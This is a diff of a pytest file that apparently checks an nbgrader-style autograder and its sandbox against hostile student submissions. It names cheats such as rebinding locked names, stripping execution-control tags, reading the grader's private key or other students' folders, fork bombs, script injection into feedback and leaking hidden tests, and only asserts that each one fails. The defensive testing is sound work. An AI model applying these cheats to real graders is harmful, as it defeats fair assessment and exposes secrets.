-@pytest.mark.parametrize("assignment,student", params(("rebind",)))
-def test_rebinding_locked_names_gains_nothing(request, results: Results, assignment: str, student: str):
-    a = BY_NAME[assignment]
-    open_names = exposed(a.source(), a.student_names)
-    if open_names:
-        # not strict: on some labs every test cell's visible asserts call the student's own (unsolved) code first,
-        # so this generic cheat scores nothing there although the hidden tests are exposed
-        request.applymarker(pytest.mark.xfail(strict=False, reason=(
-            f"{a.notebook.relative_to(ROOT)}: hidden tests look up names a student cell can rebind: {open_names}; "
-            f"apply `python tests/test_nbgrader_hostile.py harden {a.notebook.relative_to(ROOT)}`")))
-    assert score(results, assignment, student)[0] == 0, why(results, assignment, student)
+@pytest.mark.parametrize("lab,student", lab_params(("rebind",)))
+def test_rebinding_locked_names_gains_nothing(results: Results, lab: str, student: str):
+    assert results.score(lab, student)[0] == 0, results.why(lab, student)
 
 
-def test_rebinding_exploit_is_real(results: Results):
-    """The cheat must score somewhere it can, or its zero on the hardened copies would prove nothing."""
-    open_labs = [a.name for a in ASSIGNMENTS if exposed(a.source(), a.student_names)]
-    if not open_labs:
-        pytest.skip("every assignment's hidden tests are hardened")
-    scored = {name: score(results, name, "rebind")[0] for name in open_labs}
-    assert any(v > 0 for v in scored.values()), scored
+@pytest.mark.parametrize("lab,student", lab_params(("skip_tags", "skip_tags_unstripped")))
+def test_execution_control_tags_gain_nothing(results: Results, lab: str, student: str):
+    assert results.student(lab, student)["success"], results.why(lab, student)
+    assert results.score(lab, student) == (0, results.total(lab)), results.why(lab, student)
+    graded = results.autograded(lab, student)
+    tests = [c for c in graded.cells if is_test(c)]
+    assert tests and all(errors(c) for c in tests)
+    if student == "skip_tags":  # stripped: every test cell ran and failed on its own
+        assert not any(c.metadata.get("tags") for c in graded.cells)
+        assert graded.metadata.get("grader_stripped")
+        assert not any("NotRun" in errors(c) for c in tests)
+    else:  # not stripped: nbclient skipped them, and a test cell that did not run fails
+        assert all(errors(c) == ["NotRun"] for c in tests), [errors(c) for c in tests]
 
 
-@pytest.mark.parametrize("assignment", [a.name for a in ASSIGNMENTS if a.hardenable])
-def test_hardened_hidden_tests_defeat_rebinding(results: Results, assignment: str):
-    a = BY_NAME[assignment]
-    if not exposed(a.source(), a.student_names):
-        pytest.skip("the committed source is hardened already: test_rebinding_locked_names_gains_nothing covers it")
-    hardened = harden(a.source(), a.student_names)
-    assert not exposed(hardened, a.student_names)
-    assert harden(hardened, a.student_names).cells == hardened.cells  # a second pass changes nothing
-    assert score(results, assignment, "solution", hardened=True) == (total(assignment), total(assignment)), why(
-        results, assignment, "solution", hardened=True)
-    assert score(results, assignment, "rebind", hardened=True)[0] == 0, why(results, assignment, "rebind", True)
-    # the copies live in hidden blocks: the students' release holds none of them
-    release = Path(results.get(assignment, hardened=True)["root"]) / "release" / assignment / f"{assignment}.ipynb"
-    assert HIDDEN_PREFIX not in release.read_text()
+@pytest.mark.parametrize("lab,student", lab_params(REVIEWED))
+def test_code_that_reaches_into_the_kernel_is_flagged_for_review(results: Results, lab: str, student: str):
+    assert results.student(lab, student)["needs_review"], results.why(lab, student)
+    assert results.autograded(lab, student).metadata.get("grader_review")
 
 
-@pytest.mark.parametrize("assignment,student", params(REVIEWED, config_dependent=True))
-def test_code_that_reaches_into_the_kernel_is_flagged_for_review(results: Results, assignment: str, student: str):
-    assert results.student(assignment, student)["needs_review"], why(results, assignment, student)
-    assert results.autograded(assignment, student).metadata.get("grader_review")
+@pytest.mark.parametrize("lab,student", lab_params(NOT_REVIEWED))
+def test_ordinary_submissions_are_not_flagged(results: Results, lab: str, student: str):
+    assert not results.student(lab, student)["needs_review"], results.why(lab, student)
 
 
-@pytest.mark.parametrize("assignment,student", params(NOT_REVIEWED))
-def test_ordinary_submissions_are_not_flagged(results: Results, assignment: str, student: str):
-    assert not results.student(assignment, student)["needs_review"], why(results, assignment, student)
+@pytest.mark.parametrize("lab", LABS)
+def test_feedback_holds_no_hidden_test(results: Results, lab: str):
+    hidden = hidden_only_lines(results.source(lab))
+    for student in LAB_STUDENTS:
+        path = results.feedback(lab, student)
+        assert path.is_file(), results.why(lab, student)
+        text = html_text(path)
+        assert "BEGIN HIDDEN TESTS" not in text
+        assert not [line for line in hidden if line in text], (student, [line for line in hidden if line in text])
 
 
-@pytest.mark.parametrize("assignment,student", params(tuple(STUDENTS), config_dependent=True))
-def test_every_submission_gets_feedback(results: Results, assignment: str, student: str):
-    assert results.student(assignment, student)["success"], why(results, assignment, student)
-    root = Path(results.get(assignment)["root"])
-    assert (root / "feedback" / student / assignment / f"{assignment}.html").is_file()
+# --- The sandbox ----------------------------------------------------------------------------------------------------
+
+def lines_of(results: Results, student: str) -> list[str]:
+    cell = first_answer(results.autograded(SANDBOX, student))
+    return [line for o in cell.outputs if o.output_type == "stream" for line in o.get("text", "").splitlines()]
 
 
-# --- Applying the hardening to source notebooks ---------------------------------------------------------------------
-
-def main(argv: list[str]) -> int:
-    if len(argv) < 2 or argv[0] != "harden":
-        print("usage: python tests/test_nbgrader_hostile.py harden NOTEBOOK.ipynb...", file=sys.stderr)
-        return 2
-    for path in map(Path, argv[1:]):
-        nb = nbformat.read(path, as_version=4)
-        before = exposed(nb)
-        hardened = harden(nb)
-        nbformat.validate(hardened)
-        nbformat.write(hardened, path)
-        print(f"{path}: hidden tests no longer look up {json.dumps(before)}" if before else f"{path}: unchanged")
-    return 0
+def test_sandbox_job_ran(results: Results):
+    out = results.get(SANDBOX)
+    assert set(out["students"]) == set(SANDBOX_STUDENTS)
+    graded = {s: r for s, r in out["students"].items() if s not in REFUSED}
+    assert all(record["success"] for record in graded.values()), graded
+    assert results.score(SANDBOX, "solution") == (results.total(SANDBOX), results.total(SANDBOX))
 
 
-if __name__ == "__main__":
-    sys.exit(main(sys.argv[1:]))
+def test_nothing_outside_the_sandbox_can_be_read(results: Results):
+    assert results.score(SANDBOX, "snoop")[0] == 0
+    lines = lines_of(results, "snoop")
+    targets = Context(LAB[LABS[0]], Path("course"), NotebookNode(), NotebookNode(), "", key_path="key").targets()
+    # the grader's home exists in the sandbox only as the way to a bound tree (a Python under ~/.pyenv, say)
+    from quizzes.grader.sandbox import Policy
+
+    home = Path(os.path.expanduser("~"))
+    on_the_way = sorted({t.relative_to(home).parts[0] for t in Policy.default().read_only if home in t.parents})
+    allowed = {f"READ grader's home {on_the_way!r}"}
+    assert not [line for line in lines if line.startswith("READ") and line not in allowed], lines
+    denied = [line.split(" ", 1)[1].rsplit(" ", 1)[0] for line in lines if line.startswith("DENIED")]
+    assert sorted(denied + ["grader's home"] * bool(allowed & set(lines))) == sorted(targets), lines
+    # the kernelspec it asked for is gone (nbgrader's OverwriteKernelspec, then StripExecutionControl)
+    assert results.autograded(SANDBOX, "snoop").metadata["kernelspec"]["display_name"] != "unsandboxed, please"
+
+
+def test_source_notebook_cannot_be_read_and_run(results: Results):
+    assert results.score(SANDBOX, "exec_source")[0] == 0, results.why(SANDBOX, "exec_source")
+    assert "FOUND []" in lines_of(results, "exec_source")
+
+
+def test_another_students_folder_is_out_of_reach(results: Results):
+    assert results.score(SANDBOX, "copy_other")[0] == 0, results.why(SANDBOX, "copy_other")
+    lines = lines_of(results, "copy_other")
+    assert not [line for line in lines if line.startswith("CHDIR")], lines
+    assert "FOUND []" in lines or "FOUND ['" + LABS[0] + ".ipynb']" in lines  # at most its own notebook
+
+
+def test_background_process_dies_with_the_kernel(results: Results):
+    assert results.get(SANDBOX)["survivors"] == []
+    assert "started" in lines_of(results, "background")
+    # the gradebook was read after the background process's time to strike: its scores are the grader's
+    assert results.score(SANDBOX, "background") == (0, results.total(SANDBOX))
+    assert results.score(SANDBOX, "solution")[0] == results.total(SANDBOX)
+
+
+def test_fork_bomb_is_contained(results: Results):
+    assert results.student(SANDBOX, "fork_bomb")["success"], results.why(SANDBOX, "fork_bomb")
+    assert results.score(SANDBOX, "fork_bomb")[0] == 0
+    assert results.get(SANDBOX)["survivors"] == []
+
+
+def test_a_4gib_allocation_fails_in_the_kernel(results: Results):
+    assert results.score(SANDBOX, "alloc_4g") == (results.total(SANDBOX), results.total(SANDBOX))
+    assert "MemoryError" in errors(first_answer(results.autograded(SANDBOX, "alloc_4g")))
+
+
+def test_a_200mb_print_never_reaches_the_grader_whole(results: Results):
+    record = results.student(SANDBOX, "print_200mb")
+    assert results.score(SANDBOX, "print_200mb") == (results.total(SANDBOX), results.total(SANDBOX)), results.why(
+        SANDBOX, "print_200mb")
+    assert "OutputTooLarge" in errors(first_answer(results.autograded(SANDBOX, "print_200mb")))
+    assert record["maxrss_growth_kb"] < MAXRSS_GROWTH_KB, record
+
+
+def test_the_network_is_out_of_reach(results: Results):
+    assert results.get(SANDBOX)["connections"] == 0
+    lines = lines_of(results, "network")
+    assert not [line for line in lines if line.startswith("CONNECTED")], lines
+    assert len([line for line in lines if line.startswith("DENIED")]) == 3, lines
+
+
+def key_needles(path: str) -> list[str]:
+    return [line for line in Path(path).read_text().splitlines() if line and "-----" not in line]
+
+
+def test_feedback_holds_no_private_key(results: Results):
+    needles = key_needles(results.key_path)
+    assert needles
+    for job in (SANDBOX, *LABS, QUIZ):
+        students = results.get(job)["students"]
+        for student in students:
+            if student in REFUSED:
+                continue
+            text = html_text(results.feedback(job, student))
+            assert "PRIVATE KEY-----" not in text, (job, student)
+            assert not [n for n in needles if n in text], (job, student)
+    # the pasted key was there to find: the autograded notebook (the instructor's copy) still has it
+    assert needles[0] in json.dumps(results.autograded(SANDBOX, "key_print"))
+    assert "removed by the grader" in html_text(results.feedback(SANDBOX, "key_print"))
+
+
+@pytest.mark.parametrize("student", REFUSED)
+def test_links_and_special_files_are_refused_unread(results: Results, student: str):
+    """A link (to the key, to the source notebook, the notebook or the folder itself), a hard link to the key or a
+    FIFO in the submission: refused for that student, by name, before anything is copied or executed."""
+    record = results.student(SANDBOX, student)
+    assert not record["success"] and record["score"] is None, record
+    assert not record["autograded"], record
+    log = results.get(SANDBOX)["log"][student]
+    assert "refused, nothing in it was read or graded" in log, log[-2000:]
+    what = {"links": "is a symbolic link", "hardlink": "hard links", "link_notebook": "is a symbolic link",
+            "link_folder": "is not a folder", "fifo": "is not a regular file"}[student]
+    assert what in log, log[-2000:]
+    # nothing of the key reached the log (nbformat's NotJSONError quoted a linked key's first line)
+    assert not [n for n in key_needles(results.key_path) if n in log]
+    assert "PRIVATE KEY" not in log
+    # the others were graded all the same
+    assert results.score(SANDBOX, "solution")[0] == results.total(SANDBOX)
+
+
+def test_no_active_content_in_the_graded_notebook_or_the_feedback(results: Results):
+    assert results.score(SANDBOX, "inject") == (results.total(SANDBOX), results.total(SANDBOX)), results.why(
+        SANDBOX, "inject")
+    nb = results.autograded(SANDBOX, "inject")
+    kinds = {k for c in nb.cells for o in c.get("outputs", []) for k in o.get("data", {})}
+    assert kinds <= {"text/plain", "image/png", "image/jpeg"}, kinds
+    assert nb.metadata.get("grader_inert")
+    shown = "\n".join(str(v) for c in nb.cells for o in c.get("outputs", []) for v in o.get("data", {}).values())
+    assert "removed this output" in shown
+    page = results.feedback(SANDBOX, "inject").read_text(encoding="utf-8")
+    assert "alert(" in html.unescape(page)  # the attack is there to see, as text
+    assert not ACTIVE.findall(page), ACTIVE.findall(page)
+
+
+def test_test_cell_output_never_reaches_feedback(results: Results):
+    """Student functions that print the calling test cell's source (linecache): the autograded notebook has the
+    hidden tests in the test cells' output; the feedback shows the test cells' pass/fail only."""
+    assert results.score(SANDBOX, "leak_tests")[0] == results.total(SANDBOX), results.why(SANDBOX, "leak_tests")
+    hidden = hidden_only_lines(results.source(SANDBOX))
+    graded = "\n".join(text_of(c) for c in results.autograded(SANDBOX, "leak_tests").cells)
+    assert "LEAK" in graded and [line for line in hidden if line in graded]  # the attack worked in the kernel
+    text = html_text(results.feedback(SANDBOX, "leak_tests"))
+    assert "LEAK" not in text
+    assert not [line for line in hidden if line in text]
+    assert "does not show what a test cell printed" in text
+
+
+# --- The graded quiz ------------------------------------------------------------------------------------------------
+
+def quiz_points(results: Results, student: str, how_many: int | None = None) -> float:
+    return sum(p for _, _, p in quiz_answers(results.bank, student)[:how_many])
+
+
+def test_quiz_pipeline_ran(results: Results):
+    out = results.get(QUIZ)
+    assert set(out["students"]) == set(QUIZ_STUDENTS)
+    assert all(r["success"] for r in out["students"].values()), {s: results.why(QUIZ, s) for s in out["students"]}
+    assert out["feedback"], out["log"]["feedback"]
+
+
+def test_quiz_solution_scores_full_marks(results: Results):
+    got, max_score = results.score(QUIZ, "q_solution")
+    assert max_score == quiz_points(results, "q_solution") == results.total(QUIZ) > 0
+    assert got == max_score, results.why(QUIZ, "q_solution")
+
+
+@pytest.mark.parametrize("student", ["q_release", "q_skip_tags", "q_key_import"])
+def test_quiz_without_honest_answers_scores_zero(results: Results, student: str):
+    assert results.score(QUIZ, student) == (0, results.total(QUIZ)), results.why(QUIZ, student)
+
+
+@pytest.mark.parametrize("student", ["q_partial", "q_kernel_cheats"])
+def test_quiz_scores_exactly_the_honest_answers(results: Results, student: str):
+    expected = quiz_points(results, student, 1)
+    assert 0 < expected < results.total(QUIZ)
+    assert results.score(QUIZ, student)[0] == expected, results.why(QUIZ, student)
+
+
+def test_quiz_kernel_cheats_reached_nothing(results: Results):
+    text = "\n".join(text_of(c) for c in results.autograded(QUIZ, "q_kernel_cheats").cells)
+    assert "CHDIR" not in text and "FOUND ['quiz1.ipynb']" in text  # only its own notebook
+
+
+def test_quiz_key_import_found_no_key(results: Results):
+    nb = results.autograded(QUIZ, "q_key_import")
+    text = "\n".join(text_of(c) for c in nb.cells)
+    secret = (Path(results.bank) / "course.secret").read_text().strip()
+    assert secret not in text
+    assert "GRADED" in text and "ENV []" in text, text[-3000:]
+    private = (results.bank, str(BANK_FIXTURE))
+    lines = text.splitlines()
+    assert not [line for line in lines if line.startswith("READ") and any(p in line for p in private)], lines
+    assert len([line for line in lines if line.startswith("DENIED") and any(p in line for p in private)]) == 5, lines
+    feedback = html_text(results.feedback(QUIZ, "q_key_import"))
+    assert secret not in feedback
+
+
+def test_quiz_feedback_reveals_no_answer(results: Results):
+    """The feedback says right or wrong, never the answer: no slot line of a wrong answer names a letter."""
+    text = html_text(results.feedback(QUIZ, "q_partial"))
+    first, *rest = quiz_answers(results.bank, "q_partial")
+    assert f"{first[0]}: right" in text
+    for key, _, _ in rest:
+        assert re.search(rf"{key}: (wrong|0 points|\d+ of \d+ parts right)", text) or key not in text
